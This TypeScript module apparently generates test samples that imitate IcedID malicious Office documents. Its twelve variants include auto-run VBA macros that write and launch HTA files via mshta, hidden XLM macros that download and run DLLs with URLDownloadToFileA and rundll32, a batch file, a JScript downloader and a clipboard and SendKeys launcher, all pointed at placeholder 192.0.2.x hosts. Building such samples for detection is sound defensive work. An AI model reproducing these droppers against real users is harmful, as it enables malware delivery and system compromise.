/** Documents after campaigns of IcedID. */

import { writeXlm } from '../xlm-writer.ts'
import { LABEL } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { note } from './notes.ts'
import { doc, docm, xlsm } from './office.ts'

/** A page from the text or a property of the document for a copy of mshta; workbooks; notes (2020 to 2023). */
export function icedId(i: number): Buffer {
  const d = disguiseOf(1_000 + i)
  const [go, part, all, path] = [d.name(), d.name(), d.name(), d.name()]
  const page = `<html><body><script>var a = new ActiveXObject("msxml2.xmlhttp"); a.open("GET", "http://192.0.2.${i + 1}/x", false); a.send();</script></body></html>`
  const auto = (body: string, more = ''): Record<string, string> => ({
    ThisDocument: `Sub AutoOpen()\n${go}\nEnd Sub`,
    [d.name()]: `Sub ${go}()\n${d.junk(2)}\n${body}\nEnd Sub\n${more}`,
  })
  const save = (text: string): string =>
    `${path} = "C:\\Users\\Public\\${path}.hta"\nOpen ${path} For Output As #1\nPrint #1, ${text}\nClose #1`
  const run = `CallByName CreateObject("WScript.Shell"), "Run", VbMethod, ${path}`
  const write = i % 2 === 0 ? doc : docm
  const variants: (() => Buffer)[] = [
    () =>
      write({
        modules: auto(`${save('ActiveDocument.Range.Text')}\nShell "cmd /c " & ${path}, 0`),
        paragraphs: [page],
      }),
    () =>
      docm({
        modules: auto(`${save('ActiveDocument.BuiltInDocumentProperties("Comments")')}\n${run}`),
        core: { description: page },
      }),
    () =>
      write({
        modules: auto(
          `${save(`${all}.${part}.Tag`)}\nFileCopy "C:\\Windows\\System32\\mshta.exe", "C:\\Users\\Public\\${part}.com"\nShell "C:\\Users\\Public\\${part}.com " & ${path}, 0`,
        ),
        forms: { [all]: [{ name: part, type: LABEL, tag: page }] },
      }),
    () =>
      docm({
        modules: auto(
          `${save(`StrReverse(ActiveDocument.BuiltInDocumentProperties("Company"))`)}\nShell "explorer " & ${path}`,
        ),
        core: { company: [...page].reverse().join('') },
      }),
    () =>
      docm({
        modules: auto(
          `${part} = ActiveDocument.CustomDocumentProperties("${all}")\nDim s As Object\nSet s = CreateObject("shell.application")\ns.ShellExecute "mshta", ${part}, " ", "open", 0`,
        ),
        properties: { [all]: `http://192.0.2.${i}/x.hta` },
      }),
    () =>
      docm({
        modules: auto(
          `With ActiveDocument.Content.Find\n.Text = "${part}"\n.Replacement.Text = ""\n.Execute Replace:=wdReplaceAll\nEnd With\n${save('ActiveDocument.Content.Text')}\nCreateObject("WScript.Shell").Exec "cmd /c start " & ${path}`,
        ),
        paragraphs: [d.separated(page, part)],
      }),
    () =>
      xlsm({
        modules: {
          ThisWorkbook: `Private Sub Workbook_Open()\nApplication.Run "${go}"\nEnd Sub`,
          Module1: `Sub ${go}()\n${part} = "" & Range("AA1") & Range("AA2")\n${all} = VBA.Environ("TEMP") & "\\${path}.xsl"\nOpen ${all} For Output As #2\nPrint #2, ${part}\nClose #2\nCreateObject("WScript.Shell").Run "wmic process get name /format:" & ${all}, 0\nEnd Sub`,
        },
        cells: { AA1: '<?xml version="1.0"?>', AA2: '<stylesheet/>' },
      }),
    () =>
      writeXlm({
        formulas: [
          `FORMULA(CHAR(61)&"CALL(""URL""&""Mon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://192.0.2.${i}/1.gif"",""..\\${path}.dll"")",A9)`,
          'GOTO(A9)',
        ],
        state: 'hidden',
      }),
    () =>
      writeXlm({
        formulas: ['EXEC(data!A1&data!A2)', 'HALT()'],
        data: ['rundll32 ..\\', `${path}.dll,DllRegisterServer`],
      }),
    () => note('invoice.bat', `start /min rundll32 \\\\192.0.2.${i}\\s\\init.dll,init\r\n`),
    () =>
      note(
        'document.chm.js',
        `var f = new ActiveXObject("MSXML2.XMLHTTP"); f.open("GET", "http://192.0.2.${i}/a", false); f.send(); new ActiveXObject("WScript.Shell").Run("rundll32 a.dll,init");`,
      ),
    () =>
      docm({
        modules: auto(
          `Dim ${part} As New MSForms.DataObject\n${part}.SetText ${d.joined(`mshta http://192.0.2.${i}/a`)}\n${part}.PutInClipboard\nCreateObject("WScript.Shell").SendKeys "^{ESC}r"\nCreateObject("WScript.Shell").SendKeys ${d.joined(`mshta http://192.0.2.${i}/a`)} & "~"`,
        ),
      }),
  ]
  return (variants[i] as () => Buffer)()
}
